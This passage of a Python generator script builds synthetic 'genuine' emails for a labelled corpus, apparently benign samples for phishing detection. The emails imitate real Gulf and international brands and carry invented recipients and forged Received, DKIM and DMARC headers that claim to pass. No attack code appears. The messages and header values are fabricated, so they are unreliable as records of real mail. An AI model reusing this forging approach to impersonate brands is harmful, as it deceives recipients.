    pixel = f"https://url8824.aramex.com/wf/open?upn=u001.{mixed(stem + 'px', 120)}"
    html = brand_html(
        title="Your shipment is on its way", brand="aramex", color="#dc291e", pixel=pixel,
        paras=[f"Hi Noura,", f"Your shipment from <b>SHEIN</b> (AWB {awb}) is out for delivery today in Riyadh.",
               "Amount to be collected on delivery: <b>SAR 149.00</b>. You can pay the courier by card or cash, or pay "
               "online in advance for a contactless delivery.",
               '<div dir="rtl" style="text-align:right;">شحنتك من شي إن في الطريق إليك اليوم. المبلغ المطلوب عند الاستلام 149 ريال.</div>'],
        button=("Track / Pay online", link),
        footer=["Aramex - Delivery Unlimited", "You received this email because a shipment was sent to you via Aramex."])
    txt = plain(["Hi Noura,", f"Your shipment from SHEIN (AWB {awb}) is out for delivery today in Riyadh.",
                 "Amount to be collected on delivery: SAR 149.00.", f"Track / Pay online ( {link} )"])
    mf = f"bounces+2971634-{hx(stem + 'b', 4)}-noura.alqahtani=gmail.com@em2740.aramex.com"
    hdr = H(rx("gmail", rcpt=rcpt, d=d, helo="o2.ptr1627.aramex.com", ip="149.72.214.78", mailfrom=mf, seed=stem,
               dkims=[("aramex.com", "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], dmarc=("pass", "quarantine"),
               hfrom="aramex.com"),
            dkim("aramex.com", "s1", stem, d, h="content-type:from:mime-version:subject:to:cc:content-type:from:subject:to"),
            dkim("sendgrid.info", "smtpapi", stem, d, h="content-type:from:mime-version:subject:to:cc:content-type:from:subject:to"),
            f"Received: by recvd-{hx(stem + 'rv', 10)}-{an(stem + 'rv2', 5)} with SMTP id {mixed(stem + 'rv3', 22)}\n"
            f"        {rfc(utc(d))}",
            "From: Aramex <noreply@aramex.com>",
            "Subject: Your Aramex shipment is on its way",
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('sendgrid', stem)}",
            "MIME-Version: 1.0",
            f"To: {rcpt}",
            f"X-SG-EID: u001.{mixed(stem + 'eid', 120)}",
            f"X-Entity-ID: u001.{mixed(stem + 'ent', 22)}==")
    return message(hdr, alt(stem, txt, html))


@reg("legit-salik-lowbalance", "bulk",
     "Genuine Salik low-balance alert (English/Arabic) from salik.ae asking the user to recharge, with links only to "
     "salik.ae and the Salik app stores.")
def _l_salik(stem):
    d = when("2025-05-12T07:45:30+04:00")
    rcpt = "rashid.almheiri@gmail.com"
    link = "https://www.salik.ae/en/recharge"
    html = brand_html(
        title="Low balance alert | تنبيه انخفاض الرصيد", brand="salik", color="#00754a",
        paras=["Dear Rashid,", "The balance of your Salik account 3" + dg(stem, 7) + " is <b>AED 8.00</b>.",
               "Please recharge your account to avoid violations when passing through Salik gates. You can recharge through "
               "the Salik website or app, or with a Salik recharge card at petrol stations.",
               '<div dir="rtl" style="text-align:right;">رصيد حسابك في سالك 8 دراهم. يرجى إعادة تعبئة الحساب لتجنب المخالفات.</div>'],
        button=("Recharge", link),
        footer=["Salik Company P.J.S.C.", "Customer service 800 72545",
                '<a href="https://www.salik.ae/en/privacy-policy">Privacy policy</a>'])
    txt = plain(["Dear Rashid,", "The balance of your Salik account is AED 8.00.", f"Recharge: {link}", "Salik Company P.J.S.C."])
    hdr = H(rx("gmail", rcpt=rcpt, d=d, helo="mail2.salik.ae", ip="217.165.86.140", mailfrom="noreply@salik.ae",
               seed=stem, dkims=[("salik.ae", "salik", "pass")], dmarc=("pass", "reject"), hfrom="salik.ae"),
            dkim("salik.ae", "salik", stem, d),
            "From: Salik <noreply@salik.ae>",
            f"To: {rcpt}",
            "Subject: " + enc("Salik - Low balance alert | تنبيه انخفاض الرصيد"),
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('java', stem, 'salik.ae')}",
            "MIME-Version: 1.0")
    return message(hdr, alt(stem, txt, html, "sfmc"))


@reg("legit-dewa-bill", "bulk",
     "Genuine DEWA monthly electricity and water bill from dewa.gov.ae with the bill PDF attached and a Quick Pay link "
     "on dewa.gov.ae; a real payment request.")
def _l_dewa(stem):
    d = when("2024-12-11T06:20:18+04:00")
    rcpt = "priya.nair.dxb@gmail.com"
    acc = "20" + dg(stem, 8)
    link = "https://www.dewa.gov.ae/en/consumer/billing/easy-pay"
    html = brand_html(
        title="Your DEWA bill is ready", brand="DEWA", color="#007a3d",
        paras=["Dear Customer,", f"Your bill for contract account <b>{acc}</b> for November 2024 is attached.",
               "Amount due: <b>AED 412.35</b><br />Due date: 25/12/2024",
               "You can pay through the DEWA smart app, the DEWA website, or your bank."],
        button=("Pay now", link),
        footer=["Dubai Electricity and Water Authority (PJSC)", "This is a system generated email. Please do not reply."])
    txt = plain(["Dear Customer,", f"Your bill for contract account {acc} for November 2024 is attached.",
                 "Amount due: AED 412.35. Due date: 25/12/2024", f"Pay now: {link}"])
    bill = F.pdf(["Dubai Electricity and Water Authority", "Electricity & Water Bill - November 2024",
                  f"Contract account: {acc}", "Electricity: 1,184 kWh   AED 298.10", "Water: 1,920 IG   AED 71.25",
                  "Sewerage, housing and VAT   AED 43.00", "Total due: AED 412.35   Due date: 25/12/2024"], title="DEWA Bill")
    hdr = H(rx("gmail", rcpt=rcpt, d=d, helo="smtp.dewa.gov.ae", ip="213.42.52.170", mailfrom="ebill@dewa.gov.ae",
               seed=stem, dkims=[("dewa.gov.ae", "dewa", "pass")], dmarc=("pass", "reject"), hfrom="dewa.gov.ae"),
            dkim("dewa.gov.ae", "dewa", stem, d),
            "From: DEWA <ebill@dewa.gov.ae>",
            f"To: {rcpt}",
            f"Subject: DEWA Bill for account {acc} - November 2024",
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('java', stem, 'dewa.gov.ae')}",
            "MIME-Version: 1.0")
    return message(hdr, mixed_(stem, alt(stem, txt, html, "sfmc"),
                               [attachment("application/pdf", f"Bill_{acc}_Nov2024.pdf", bill)], "sfmc"))


@reg("legit-emirates-booking", "bulk",
     "Genuine Emirates booking confirmation (DOH-DXB) with booking reference, e-ticket number and Manage Booking link on "
     "emirates.com, sent through the airline's Salesforce Marketing Cloud domain.")
def _l_emirates(stem):
    d = when("2025-02-14T13:05:42+04:00")
    rcpt = "hamad.alkuwari@outlook.com"
    pnr = AN(stem, 6).replace("0", "K").replace("1", "L")
    link = f"https://click.e.emirates.email/?qs={hx(stem + 'q', 96)}"
    html = brand_html(
        title="Your booking is confirmed", brand="Emirates", color="#d71a21",
        paras=["Dear Mr Hamad Alkuwari,", f"Thank you for booking with Emirates. Your booking reference is <b>{pnr}</b>.",
               "<b>EK 848</b> Doha (DOH) &rarr; Dubai (DXB)<br />Thu 06 Mar 2025, departs 10:45, arrives 12:55<br />Economy Flex",
               "<b>EK 847</b> Dubai (DXB) &rarr; Doha (DOH)<br />Sun 09 Mar 2025, departs 09:30, arrives 09:40<br />Economy Flex",
               f"E-ticket number: 176-{dg(stem + 't', 10)}<br />Total paid: QAR 1,845.00",
               "Online check-in opens 48 hours before departure."],
        button=("Manage your booking", link),
        footer=["Emirates, P.O. Box 686, Dubai, United Arab Emirates",
                "This is a service email about your booking."])
    txt = plain(["Dear Mr Hamad Alkuwari,", f"Your booking reference is {pnr}.",
                 "EK 848 Doha (DOH) - Dubai (DXB) Thu 06 Mar 2025 10:45\nEK 847 Dubai (DXB) - Doha (DOH) Sun 09 Mar 2025 09:30",
                 f"Manage your booking: {link}"])
    hdr = H(rx("outlookcom", rcpt=rcpt, d=d, helo="mta13.e.emirates.email", ip="13.111.66.201",
               mailfrom=f"bounce-{hx(stem + 'bo', 4)}_HTML-{dg(stem + 'bo2', 9)}-{dg(stem + 'bo3', 6)}-{dg(stem + 'bo4', 8)}-1@bounce.e.emirates.email",
               seed=stem, dkims=[("e.emirates.email", "200608", "pass")], dmarc=("pass", "reject"), hfrom="e.emirates.email"),
            dkim("e.emirates.email", "200608", stem, d),
            "From: Emirates <do-not-reply@e.emirates.email>",
            f"To: <{rcpt}>",
            f"Subject: Booking confirmation - {pnr} - Doha to Dubai",
            f"Date: {rfc(d)}",
            "MIME-Version: 1.0",
            f"Message-ID: {mid('sfmc', stem, 'atl1s07mta1327.xt.local')}",
            f"X-SFMC-Stack: 7",
            exch(stem, d, "outlookcom"))
    return message(hdr, alt(stem, txt, html, "sfmc"))


@reg("legit-qatarairways-checkin", "bulk",
     "Genuine Qatar Airways 'online check-in is now open' email for a Doha-Beirut flight to a Lebanese Gmail user, with "
     "check-in and Privilege Club links on qatarairways.com.")
def _l_qr(stem):
    d = when("2025-07-23T08:00:15+03:00")
    rcpt = "karim.haddad.lb@gmail.com"
    link = f"https://www.qatarairways.com/en/manage-booking/check-in.html?pnr={AN(stem, 6)}&amp;lastName=HADDAD"
    html = brand_html(
        title="Online check-in is now open", brand="Qatar Airways", color="#5c0632",
        paras=["Dear Mr Karim Haddad,", "Check-in is now open for your flight:",
               "<b>QR 418</b> Doha (DOH) &rarr; Beirut (BEY)<br />Friday 25 July 2025, departs 07:30",
               "Check in online to choose your seat and receive your boarding pass on your phone. Online check-in closes "
               "90 minutes before departure."],
        button=("Check in now", link),
        footer=["Qatar Airways Group Q.C.S.C., Qatar Airways Tower, Doha, Qatar",
                '<a href="https://www.qatarairways.com/en/legal/privacy-notice.html">Privacy notice</a>'])
    txt = plain(["Dear Mr Karim Haddad,", "Check-in is now open for QR 418 Doha (DOH) - Beirut (BEY), 25 July 2025 07:30.",
                 f"Check in now: {link.replace('&amp;', '&')}"])
    hdr = H(rx("gmail", rcpt=rcpt, d=d, helo="mail-out.qatarairways.com", ip="185.179.168.21",
               mailfrom="noreply@qatarairways.com", seed=stem, dkims=[("qatarairways.com", "qr2024", "pass")],
               dmarc=("pass", "reject"), hfrom="qatarairways.com"),
            dkim("qatarairways.com", "qr2024", stem, d),
            "From: Qatar Airways <noreply@qatarairways.com>",
            f"To: {rcpt}",
            "Subject: Check-in is now open for your flight to Beirut",
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('java', stem, 'qatarairways.com')}",
            "MIME-Version: 1.0")
    return message(hdr, alt(stem, txt, html, "sfmc"))


@reg("legit-uaepass-signature", "bulk",
     "Genuine UAE PASS notification that the user digitally signed a document through a government service, from "
     "uaepass.ae with DKIM/DMARC pass; no link, only the support number.")
def _l_uaepass(stem):
    d = when("2025-10-22T11:17:03+04:00")
    rcpt = "h.alnuaimi@gulf-edu.ae"
    html = brand_html(
        title="Document signed successfully", brand="UAE PASS", color="#1b1d21",
        paras=["Dear Hessa Alnuaimi,",
               "You have successfully signed the document <b>Employment Contract Renewal</b> using your UAE PASS digital "
               "signature through the Ministry of Human Resources and Emiratisation service on 22/10/2025 at 11:16.",
               "If you did not sign this document, please contact UAE PASS support on 600 561 111.",
               '<div dir="rtl" style="text-align:right;">تم توقيع المستند بنجاح باستخدام التوقيع الرقمي للهوية الرقمية.</div>'],
        footer=["UAE PASS - The national digital identity", "This is an automated email, please do not reply."])
    txt = plain(["Dear Hessa Alnuaimi,", "You have successfully signed the document Employment Contract Renewal using your "
                 "UAE PASS digital signature on 22/10/2025 at 11:16.",
                 "If you did not sign this document, please contact UAE PASS support on 600 561 111."])
    hdr = H(rx("m365", rcpt=rcpt, d=d, helo="smtp.uaepass.ae", ip="194.170.20.44", mailfrom="noreply@uaepass.ae",
               seed=stem, dkims=[("uaepass.ae", "uaepass", "pass")], dmarc=("pass", "reject"), hfrom="uaepass.ae"),
            dkim("uaepass.ae", "uaepass", stem, d),
            "From: UAE PASS <noreply@uaepass.ae>",
            f"To: {rcpt}",
            "Subject: UAE PASS - Document signed successfully",
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('java', stem, 'uaepass.ae')}",
            "MIME-Version: 1.0",
            exch(stem, d))
    return message(hdr, alt(stem, txt, html))


@reg("legit-absher-visa-issued", "bulk",
     "Genuine Arabic Absher notification that an exit/re-entry visa was issued for a domestic worker, from the "
     "Ministry of Interior's domain with DKIM/DMARC pass; link only to absher.sa.")
def _l_absher(stem):
    d = when("2024-09-22T14:02:37+03:00")
    rcpt = "reem.alshehri@hotmail.com"
    html = brand_html(
        title="تم إصدار تأشيرة خروج وعودة", brand="أبشر | وزارة الداخلية", color="#006c35", rtl=True, lang="ar",
        paras=["المستخدم الكريم،",
               "نفيدكم بأنه تم إصدار تأشيرة خروج وعودة مفردة للمقيم التابع لكم رقم الإقامة 2" + dg(stem, 9)[:5] + "*****، "
               "صالحة لمدة 90 يوماً، وتم خصم الرسوم من حسابكم في سداد.",
               "يمكنكم طباعة التأشيرة أو الاطلاع على تفاصيلها من خلال منصة أبشر."],
        button=("أبشر", "https://www.absher.sa"),
        footer=["وزارة الداخلية - المملكة العربية السعودية", "هذه رسالة آلية، يرجى عدم الرد عليها."])
    txt = plain(["المستخدم الكريم،", "تم إصدار تأشيرة خروج وعودة مفردة للمقيم التابع لكم صالحة لمدة 90 يوماً.",
                 "منصة أبشر: https://www.absher.sa"])
    hdr = H(rx("outlookcom", rcpt=rcpt, d=d, helo="mail.moi.gov.sa", ip="212.26.18.90", mailfrom="noreply@absher.sa",
               seed=stem, dkims=[("absher.sa", "moi", "pass")], dmarc=("pass", "reject"), hfrom="absher.sa"),
            dkim("absher.sa", "moi", stem, d),
            "From: " + addr("أبشر", "noreply@absher.sa"),
            f"To: {rcpt}",
            "Subject: " + enc("أبشر: تم إصدار تأشيرة خروج وعودة"),
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('java', stem, 'absher.sa')}",
            "MIME-Version: 1.0",
            exch(stem, d, "outlookcom"))
    return message(hdr, alt(stem, txt, html, "generic", "base64"))


@reg("legit-noon-shipped", "bulk",
     "Genuine noon 'your order has been shipped' email sent via Amazon SES with noon.com DKIM, order items, delivery "
     "estimate and tracked links to noon.com.")
def _l_noon(stem):
    d = when("2025-10-03T16:22:10+04:00")
    rcpt = "mariam.alhashimi@gmail.com"
    order = f"NAE{dg(stem, 11)}"
    link = f"https://www.noon.com/uae-en/account_mobile/orders/{order}?utm_source=email&amp;utm_medium=transactional&amp;utm_campaign=shipped"
    html = brand_html(
        title="Your order is on its way!", brand="noon", color="#feee00", font="Helvetica, Arial, sans-serif",
        paras=["Hi Mariam,", f"Good news &ndash; your order <b>{order}</b> has been shipped and will arrive by "
               "<b>Sunday, 5 October</b>.",
               "Philips Series 3000 Air Fryer XL, 6.2L &times; 1<br />Nivea Sun Protect &amp; Moisture SPF 50+ &times; 2",
               "Order total: AED 412.50 (paid by card)"],
        button=("Track order", link),
        footer=["noon AD Holdings Ltd., Dubai, UAE", "You are receiving this email because you placed an order on noon.com."])
    txt = plain(["Hi Mariam,", f"Your order {order} has been shipped and will arrive by Sunday, 5 October.",
                 f"Track order: {link.replace('&amp;', '&')}"])
    sel = an(stem + "sel", 32)
    mf = f"0100019{hx(stem + 'mf', 9)}-{hx(stem + 'mf2', 8)}-{hx(stem + 'mf3', 4)}-{hx(stem + 'mf4', 4)}-{hx(stem + 'mf5', 4)}-{hx(stem + 'mf6', 12)}-000000@mail.noon.com"
    hdr = H(rx("gmail", rcpt=rcpt, d=d, helo="a8-72.smtp-out.amazonses.com", ip="54.240.8.72", mailfrom=mf, seed=stem,
               dkims=[("noon.com", sel, "pass"), ("amazonses.com", "ug7nbtf4gccmlpwj322ax3p6ow6yfsug", "pass")],
               dmarc=("pass", "quarantine"), hfrom="noon.com"),
            dkim("noon.com", sel, stem, d, c="simple/simple", h="Subject:From:To:Date:Mime-Version:Content-Type:Message-Id"),
            dkim("amazonses.com", "ug7nbtf4gccmlpwj322ax3p6ow6yfsug", stem, d, c="simple/simple", h="Subject:From:To:Date:Mime-Version:Content-Type:Message-Id:Feedback-ID"),
            "Subject: Your noon order has been shipped",
            "From: noon <no-reply@noon.com>",
            f"To: {rcpt}",
            f"Date: {rfc(d)}",
            "Mime-Version: 1.0",
            f"Message-ID: {mid('ses', stem, 'email.amazonses.com')}",
            f"Feedback-ID: ::1.us-east-1.{mixed(stem + 'fb', 43)}=:AmazonSES",
            f"X-SES-Outgoing: {d.strftime('%Y.%m.%d')}-54.240.8.72")
    return message(hdr, alt(stem, txt, html))


@reg("legit-talabat-receipt", "bulk",
     "Genuine talabat UAE order receipt (restaurant order, itemised total and payment) via SparkPost with talabat.com "
     "DKIM, links to talabat.com help and a marketing unsubscribe header.")
def _l_talabat(stem):
    d = when("2025-04-30T21:12:44+04:00")
    rcpt = "layla.mansour.dxb@gmail.com"
    html = brand_html(
        title="Thanks for your order!", brand="talabat", color="#ff5a00",
        paras=["Hi Layla,", "Here is your receipt from <b>Operation: Falafel - JLT</b>.",
               "Order #" + dg(stem, 9) + "<br />Delivered to: Cluster X, JLT",
               "2 &times; Falafel wrap - AED 36.00<br />1 &times; Halloumi manakish - AED 24.00<br />1 &times; Mint lemonade - AED 16.00"
               "<br />Delivery fee - AED 0.00 (talabat pro)<br />Service fee - AED 2.99<br /><b>Total: AED 78.99</b>",
               "Paid with Apple Pay"],
        button=("Get help with this order", "https://www.talabat.com/uae/help"),
        footer=["talabat, Dubai, UAE", '<a href="https://www.talabat.com/uae/unsubscribe">Manage email preferences</a>'])
    txt = plain(["Hi Layla,", "Here is your receipt from Operation: Falafel - JLT.", "Total: AED 78.99, paid with Apple Pay.",
                 "Help: https://www.talabat.com/uae/help"])
    mf = f"msprvs1=20{dg(stem + 'sp', 3)}{an(stem + 'sp2', 14)}=bounces-{dg(stem + 'sp3', 6)}@sp.talabat.com"
    hdr = H(rx("gmail", rcpt=rcpt, d=d, helo="mta-76-21.sparkpostmail.com", ip="192.174.76.21", mailfrom=mf, seed=stem,
               dkims=[("talabat.com", "scph0624", "pass"), ("sp.talabat.com", "scph0624", "pass")],
               dmarc=("pass", "reject"), hfrom="talabat.com"),
            dkim("talabat.com", "scph0624", stem, d, h="To:Message-ID:Date:Content-Type:Subject:From:List-Unsubscribe"),
            f"Return-Path: <{mf}>",
            "To: " + rcpt,
            f"Message-ID: <{hx(stem, 8)}.{hx(stem + 'b', 4)}.{dg(stem + 'c', 5)}.{hx(stem + 'e', 8)}@sparkpostmail.com>",
            f"Date: {rfc(d)}",
            "Subject: Your talabat order receipt",
            "From: talabat <no-reply@talabat.com>",
            "List-Unsubscribe: <https://www.talabat.com/uae/unsubscribe>",
            "MIME-Version: 1.0")
    return message(hdr, alt(stem, txt, html))


@reg("legit-shoman-newsletter", "bulk",
     "Genuine Arabic cultural newsletter (Abdul Hameed Shoman Foundation, Amman) sent through Mailchimp with "
     "list-manage tracking links, List-Unsubscribe and the foundation's DKIM.")
def _l_shoman(stem):
    d = when("2025-03-09T12:00:44+03:00")
    rcpt = "rania.khatib@yahoo.com"
    u, lid = hx(stem + "u", 25), hx(stem + "lid", 10)

    def trk(i):
        return f"https://shoman.us5.list-manage.com/track/click?u={u}&amp;id={hx(stem + str(i), 10)}&amp;e={hx(stem + 'e', 10)}"
    html = brand_html(
        title="نشرة مؤسسة عبد الحميد شومان - آذار 2025", brand="مؤسسة عبد الحميد شومان", color="#7a1f2b", rtl=True, lang="ar",
        paras=["أهلاً بكم في نشرة آذار، وإليكم أبرز فعاليات المؤسسة هذا الشهر:",
               f'<b>منتدى عبد الحميد شومان الثقافي</b>: محاضرة بعنوان "الذكاء الاصطناعي ومستقبل اللغة العربية" - الإثنين 17 آذار، الساعة 6:30 مساءً. '
               f'<a href="{trk(1)}">التفاصيل والتسجيل</a>',
               f'<b>لجنة السينما</b>: عرض الفيلم الأردني "إن شاء الله ولد" تليه جلسة نقاش - الثلاثاء 25 آذار. <a href="{trk(2)}">اقرأ المزيد</a>',
               f'<b>مكتبة شومان</b>: ساعات العمل خلال شهر رمضان المبارك من 10 صباحاً حتى 4 مساءً. <a href="{trk(3)}">مواعيد الفروع</a>',
               "رمضان كريم وكل عام وأنتم بخير."],
        footer=["مؤسسة عبد الحميد شومان - جبل عمّان، عمّان، الأردن",
                "تلقيت هذه الرسالة لأنك مشترك في النشرة البريدية للمؤسسة.",
                f'<a href="https://shoman.us5.list-manage.com/unsubscribe?u={u}&amp;id={lid}&amp;e={hx(stem + "e", 10)}">إلغاء الاشتراك</a> | '
                f'<a href="https://shoman.us5.list-manage.com/profile?u={u}&amp;id={lid}">تحديث التفضيلات</a>'],
        pixel=f"https://shoman.us5.list-manage.com/track/open.php?u={u}&amp;id={hx(stem + 'o', 10)}&amp;e={hx(stem + 'e', 10)}")
    txt = plain(["نشرة مؤسسة عبد الحميد شومان - آذار 2025",
                 "منتدى عبد الحميد شومان الثقافي: محاضرة \"الذكاء الاصطناعي ومستقبل اللغة العربية\" - الإثنين 17 آذار.",
                 "لجنة السينما: عرض الفيلم الأردني \"إن شاء الله ولد\" - الثلاثاء 25 آذار.",
                 f"إلغاء الاشتراك: https://shoman.us5.list-manage.com/unsubscribe?u={u}&id={lid}"])
    mh = f"mail{int(dg(stem + 'mh', 3)) % 250}.atl{int(dg(stem + 'mh2', 3)) % 300}.mcdlv.net"
    mf = f"bounce-mc.us5_{dg(stem + 'b', 8)}.{dg(stem + 'b2', 7)}-{hx(stem + 'b3', 10)}@{mh}"
    hdr = H(rx("yahoo", rcpt=rcpt, d=d, helo=mh, ip=f"198.2.{128 + int(dg(stem + 'ip', 2)) % 60}.{int(dg(stem + 'ip2', 3)) % 250}",
               mailfrom=mf, seed=stem, dkims=[("shoman.org", "k2", "pass"), ("mcdlv.net", "k1", "pass")],
               dmarc=("pass", "NONE"), hfrom="shoman.org"),
            dkim("shoman.org", "k2", stem, d, h="Subject:From:Reply-To:To:Date:Message-ID:List-ID:List-Unsubscribe:List-Unsubscribe-Post:Content-Type:MIME-Version"),
            dkim("mcdlv.net", "k1", stem, d, h="Subject:From:Reply-To:To:Date:Message-ID:List-ID:List-Unsubscribe:List-Unsubscribe-Post:Content-Type:MIME-Version"),
            f"Received: from localhost (localhost [127.0.0.1])\n\tby {mh} (Mailchimp) with ESMTP id 4Z{mixed(stem + 'lq', 10)}\n"
            f"\tfor <{rcpt}>; {rfc(utc(d))} (GMT)",
            "Subject: " + enc("نشرة آذار: محاضرات وعروض أفلام ومواعيد المكتبة في رمضان"),
            "From: " + addr("مؤسسة عبد الحميد شومان", "newsletter@shoman.org"),
            "Reply-To: " + addr("مؤسسة عبد الحميد شومان", "info@shoman.org"),
            f"To: <{rcpt}>",
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('mailchimp', stem)}",
            f"List-ID: {u}mc list <{u}.{dg(stem + 'li', 6)}.list-id.mcsv.net>",
            f"List-Unsubscribe: <https://shoman.us5.list-manage.com/unsubscribe?u={u}&id={lid}&e={hx(stem + 'e', 10)}&c={hx(stem + 'c', 10)}>,\n"
            f" <mailto:unsubscribe-mc.us5_{u}.{hx(stem + 'c', 10)}-{hx(stem + 'e', 10)}@unsubscribe.mailchimpapp.net>",
            "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
            f"X-Mailer: Mailchimp Mailer - **CID{hx(stem + 'c', 10)}{hx(stem + 'e', 10)}**",
            f"X-Campaign: mailchimp{u}.{hx(stem + 'c', 10)}",
            "Precedence: bulk",
            "MIME-Version: 1.0")
    return message(hdr, alt(stem, txt, html, "generic", "quoted-printable"))


@reg("legit-ifmaroc-newsletter", "bulk",
     "Genuine French cultural agenda newsletter of the Institut français du Maroc sent through Brevo with the "
     "institute's DKIM, sendibt3 tracking links and a one-click unsubscribe.")
def _l_ifm(stem):
    d = when("2025-10-02T10:30:00+01:00")
    rcpt = "salma.tazi@hotmail.fr"

    def trk(i):
        return f"https://{an(stem + 't', 6)}.r.sp1-brevo.net/mk/cl/f/sh/{mixed(stem + 'cl' + str(i), 44)}"
    html = brand_html(
        title="L'agenda culturel d'octobre", brand="Institut français du Maroc", color="#1d3a6e", lang="fr",
        paras=["Bonjour,", "Voici la sélection d'octobre de l'Institut français de Casablanca :",
               f'<b>Cinéma</b> - Cycle « Nouveaux regards du cinéma marocain », tous les mercredis à 19h. <a href="{trk(1)}">Programme</a>',
               f'<b>Rencontre</b> - Dialogue littéraire autour du roman « Le Rêve du sultan », samedi 18 octobre à 18h. <a href="{trk(2)}">Réserver</a>',
               f'<b>Cours de langue</b> - Inscriptions ouvertes pour la session de novembre (tous niveaux). <a href="{trk(3)}">S\'inscrire</a>',
               "À très bientôt à l'Institut !"],
        footer=["Institut français du Maroc - 121, boulevard Mohamed Zerktouni, Casablanca",
                f'<a href="https://{an(stem + "t", 6)}.r.sp1-brevo.net/mk/un/sh/{mixed(stem + "un", 44)}">Se désinscrire</a>'],
        pixel=f"https://{an(stem + 't', 6)}.r.sp1-brevo.net/mk/op/sh/{mixed(stem + 'op', 44)}")
    txt = plain(["Bonjour,", "Voici la sélection d'octobre de l'Institut français de Casablanca :",
                 "Cinéma - Cycle « Nouveaux regards du cinéma marocain », tous les mercredis à 19h.",
                 "Rencontre - Dialogue littéraire samedi 18 octobre à 18h.",
                 "Cours de langue - Inscriptions ouvertes pour la session de novembre."], 76)
    mf = f"{hx(stem + 'bm', 16)}@{an(stem + 't', 6)}.sp1-brevo.net"
    hdr = H(rx("outlookcom", rcpt=rcpt, d=d, helo="smtp-relay.sendinblue.com", ip="77.32.148.30", mailfrom=mf, seed=stem,
               dkims=[("if-maroc.org", "brevo1", "pass"), ("sendinblue.com", "mail", "pass")], dmarc=("pass", "none"),
               hfrom="if-maroc.org"),
            dkim("if-maroc.org", "brevo1", stem, d, h="MIME-Version:From:To:Subject:Date:Message-Id:List-Unsubscribe:List-Unsubscribe-Post:Content-Type"),
            dkim("sendinblue.com", "mail", stem, d, h="MIME-Version:From:To:Subject:Date:Message-Id:List-Unsubscribe:List-Unsubscribe-Post:Content-Type"),
            "MIME-Version: 1.0",
            "From: " + addr("Institut français du Maroc", "newsletter@if-maroc.org"),
            f"To: {rcpt}",
            "Subject: " + enc("L'agenda culturel d'octobre à l'Institut français de Casablanca"),
            f"Date: {rfc(d)}",
            f"Message-Id: {mid('brevo', stem)}",
            f"List-Unsubscribe: <https://{an(stem + 't', 6)}.r.sp1-brevo.net/mk/un/sh/{mixed(stem + 'un', 44)}>",
            "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
            f"X-Mailin-Campaign: {dg(stem + 'camp', 3)}",
            f"X-Mailin-Client: {dg(stem + 'cl', 7)}",
            f"Feedback-ID: {dg(stem + 'fb', 5)}:{dg(stem + 'cl', 7)}:campaign:brevo",
            exch(stem, d, "outlookcom"))
    return message(hdr, alt(stem, txt, html))


@reg("legit-msaccount-signin", "bulk",
     "Genuine Microsoft account 'unusual sign-in activity' security alert to an Outlook.com user from "
     "accountprotection.microsoft.com, with the sign-in details and links only to account.live.com.")
def _l_msa(stem):
    d = when("2025-06-11T02:48:19+00:00")
    rcpt = "hamad.alkuwari@outlook.com"
    html = f"""<html dir="ltr"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body><table dir="ltr"><tr><td style="padding:0;font-family:'Segoe UI Semibold','Segoe UI Bold','Segoe UI','Helvetica Neue Medium',Arial,sans-serif;font-size:17px;color:#707070;">Microsoft account</td></tr>
<tr><td style="padding:0;font-family:'Segoe UI Light','Segoe UI','Helvetica Neue Medium',Arial,sans-serif;font-size:41px;color:#2672ec;">Unusual sign-in activity</td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">
We detected something unusual about a recent sign-in to the Microsoft account <a dir="ltr" style="color:#2672ec;text-decoration:none;" href="mailto:{rcpt}">ha*****@outlook.com</a>.</td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">
<b>Sign-in details</b><br>Country/region: Qatar<br>IP address: 37.186.{int(dg(stem + 'i', 3)) % 250}.{int(dg(stem + 'i2', 3)) % 250}<br>Date: 6/11/2025 2:46 AM (GMT)<br>Platform: iOS<br>Browser: Safari</td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">
Please go to your recent activity page to let us know whether or not this was you. If this wasn't you, we'll help you secure your account. If this was you, we'll trust similar activity in the future.</td></tr>
<tr><td style="padding:0;padding-top:25px;"><a style="background-color:#2672ec;color:#fff;padding:5px 20px;text-decoration:none;font-family:'Segoe UI',Arial;font-size:14px;" href="https://account.live.com/Activity">Review recent activity</a></td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">
To opt out or change where you receive security notifications, <a style="color:#2672ec;text-decoration:none;" href="https://account.live.com/SecurityNotifications/Update">click here</a>.</td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">Thanks,<br>The Microsoft account team</td></tr>
</table></body></html>
"""
    txt = plain(["Microsoft account", "Unusual sign-in activity",
                 "We detected something unusual about a recent sign-in to the Microsoft account ha*****@outlook.com.",
                 "Sign-in details\nCountry/region: Qatar\nPlatform: iOS\nBrowser: Safari",
                 "Please go to your recent activity page to let us know whether or not this was you.",
                 "Review recent activity: https://account.live.com/Activity", "Thanks,\nThe Microsoft account team"])
    dom = "accountprotection.microsoft.com"
    hdr = H(rx("outlookcom", rcpt=rcpt, d=d, helo="ch1pepf0000ad7f.namprd04.prod.outlook.com", ip="2603:10b6:610:1a8::9",
               mailfrom=f"account-security-noreply@{dom}", seed=stem, dkims=[(dom, "selector1", "pass")],
               dmarc=("pass", "reject"), hfrom=dom),
            dkim(dom, "selector1", stem, d, h="From:Date:Subject:Message-ID:Content-Type:MIME-Version"),
            "From: Microsoft account team <account-security-noreply@accountprotection.microsoft.com>",
            f"To: {rcpt}",
            "Subject: Microsoft account unusual sign-in activity",
            f"Date: {rfc(d)}",
